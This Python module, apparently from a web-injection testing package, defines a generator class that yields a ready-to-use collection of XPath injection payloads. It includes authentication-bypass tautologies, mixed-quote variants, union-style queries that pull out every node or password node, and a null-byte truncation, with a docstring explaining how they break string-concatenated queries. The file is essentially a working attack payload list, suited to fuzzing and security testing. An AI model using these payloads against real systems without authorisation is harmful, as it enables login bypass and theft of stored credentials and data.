"""XPath injection payloads."""

from webinject.generators.base import BaseGenerator, DEFAULT_SIZE


class XPathInjection(BaseGenerator):
    """
    XPath injection against lookups such as
    //user[name/text()='{user}' and password/text()='{password}'].

    Every payload closes a single-quoted string literal, so an evaluator that
    concatenates input into its query ends up evaluating attacker syntax.
    """

    def __init__(self):
        self.name = "XPath Injection"
        tautologies = [
            "' or '1'='1",
            "' or ''='",
            "' or 1=1 or 'a'='a",
            "' or true() or '",
            "' or count(/*)=1 or 'a'='b",
            "' or name()='username' or 'x'='y",
            "' or string-length(name(/*[1]))>0 or '",
            "' or contains(name(/*[1]),'u') or '",
        ]
        self.payloads = []
        for t in tautologies:
            self.payloads.append(t)
            self.payloads.append(t.replace("'", "\"", 1) + "'")  # mixed quoting
        self.payloads += [
            "']|//*|//*['",
            "'] | //user/*[contains(*,'') and '1'='1",
            "admin' or '1'='1' and ''='",
            "x' or 1=1]%00",
            "')] | //password | //*[('",
            "'+or+'1'='1",
        ]

    def generate(self, size=DEFAULT_SIZE, seed=0):
        return iter(self.payloads)
